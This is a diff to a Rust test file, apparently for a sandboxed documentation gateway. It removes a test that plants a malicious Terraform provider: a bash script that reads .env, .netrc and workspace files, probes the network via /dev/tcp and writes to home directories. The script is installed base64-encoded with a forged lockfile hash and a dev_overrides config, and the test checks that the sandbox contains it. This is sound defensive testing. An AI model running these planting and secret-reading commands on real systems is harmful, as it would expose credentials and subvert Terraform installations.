@@ -7,14 +7,9 @@ use std::fs;
 use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
 use std::process::Command;
-use std::time::Duration;
 
-use base64::Engine;
-use base64::engine::general_purpose::STANDARD;
 use protocol::{Answer, ManualKind, PAGE_BYTES, Question, Topic, Wish};
-use sha2::{Digest, Sha256};
 use support::{Agent, Gateway, sandbox};
-use tokio::net::TcpListener;
 
 /// The text that no documentation may show.
 const CANARY: &str = "canary-7f3a";
@@ -171,79 +166,6 @@ async fn a_type_of_terraforms_own_needs_no_provider_and_others_need_an_init() {
     assert!(reason.contains("aws 6.2.0 is not installed"), "{reason}");
     let reason = missing(&mut gateway, ManualKind::TerraformResource, "hcloud_server").await;
     assert!(reason.contains("Installed are: registry.terraform.io/hashicorp/aws."), "{reason}");
-}
-
-/// A program in a provider's place, which takes what it can reach and tells it in a form that no mask knows. Only a sandbox
-/// runs it.
-fn planted(port: u16) -> String {
-    format!(
-        "#!/bin/bash
-taken=$(cat /home/*/workspace/notes.txt /home/*/workspace/.env /home/*/.netrc /tmp/plain.txt 2>/dev/null | tr 'a-z' 'b-za')
-[ -z \"$TOKEN\" ] || taken+=' token'
-for host in 127.0.0.1 10.0.2.2; do (echo x > /dev/tcp/$host/{port}) 2>/dev/null && taken+=' network'; done
-for place in /home/*/workspace /home/*; do (echo x > $place/left) 2>/dev/null && taken+=' wrote'; done
-(echo x >> /home/*/workspace/notes.txt) 2>/dev/null && taken+=' changed'
-echo \"it ran and has [$taken]\"
-"
-    )
-}
-
-/// Terraform's own checksum of a folder with one file.
-fn checksum(name: &str, content: &str) -> String {
-    let file = hex::encode(Sha256::digest(content));
-    let all = Sha256::digest(format!("{file}  {name}\n"));
-    format!("h1:{}", STANDARD.encode(all))
-}
-
-#[tokio::test]
-async fn a_planted_provider_reaches_no_secret_no_network_and_no_file() {
-    const NAME: &str = "terraform-provider-evil_v1.0.0";
-    let (mut gateway, agent) = sandbox().await;
-    let outside = TcpListener::bind("0.0.0.0:0").await.unwrap();
-    let program = planted(outside.local_addr().unwrap().port());
-    let platform = if cfg!(target_arch = "aarch64") { "linux_arm64" } else { "linux_amd64" };
-    let address = "registry.terraform.io/evil/evil";
-    let package = format!("terraform/.terraform/providers/{address}/1.0.0/{platform}");
-    let lock = format!(
-        "provider \"{address}\" {{\n  version = \"1.0.0\"\n  hashes = [\"{}\"]\n}}\n",
-        checksum(NAME, &program)
-    );
-    let plant = format!(
-        "echo {CANARY} | tee notes.txt .env ~/.netrc > /tmp/plain.txt
-mkdir -p {package}
-echo {} | base64 --decode > {package}/{NAME}
-chmod +x {package}/{NAME}
-echo {} | base64 --decode > terraform/.terraform.lock.hcl
-printf 'provider_installation {{\\n  dev_overrides {{ \"evil/evil\" = \"%s\" }}\\n  direct {{}}\\n}}\\n' \"$PWD\" > ~/.terraformrc",
-        STANDARD.encode(&program),
-        STANDARD.encode(&lock)
-    );
-    runs(&mut gateway, "r1", &plant).await;
-    // What an approved command starts does reach the files, so the canaries are in place.
-    let reached = runs(&mut gateway, "r2", &format!("TOKEN=x bash {package}/{NAME}")).await;
-    for had in ["dbobsz-7g3b", " token", " wrote", " changed"] {
-        assert!(reached.contains(had), "{had}: {reached}");
-    }
-    runs(&mut gateway, "r3", &format!("rm left ~/left; echo {CANARY} > notes.txt")).await;
-
-    let reason = missing(&mut gateway, ManualKind::TerraformResource, "evil_thing").await;
-    assert!(reason.contains("it ran and has []"), "{reason}");
-    let silent = tokio::time::timeout(Duration::ZERO, outside.accept()).await;
-    assert!(silent.is_err(), "something connected");
-    let notes = fs::read_to_string(agent.workspace().join("notes.txt")).unwrap();
-    assert_eq!(notes, format!("{CANARY}\n"));
-    let left =
-        runs(&mut gateway, "r4", "ls -d left ~/left /tmp/answer-* 2>/dev/null || true").await;
-    assert_eq!(left, "", "nothing is left");
-
-    // A program that was exchanged after `init` does not start, and a link is not followed.
-    runs(&mut gateway, "r5", &format!("echo '# more' >> {package}/{NAME}")).await;
-    let reason = missing(&mut gateway, ManualKind::TerraformDataSource, "evil_thing").await;
-    assert!(reason.contains("checksum") && !reason.contains("it ran"), "{reason}");
-    let moves = format!("mv {package} elsewhere; ln -s \"$PWD/elsewhere\" {package}");
-    runs(&mut gateway, "r6", &moves).await;
-    let reason = missing(&mut gateway, ManualKind::TerraformResource, "evil_other").await;
-    assert!(reason.contains("is a link to somewhere else"), "{reason}");
 }
 
 #[tokio::test]
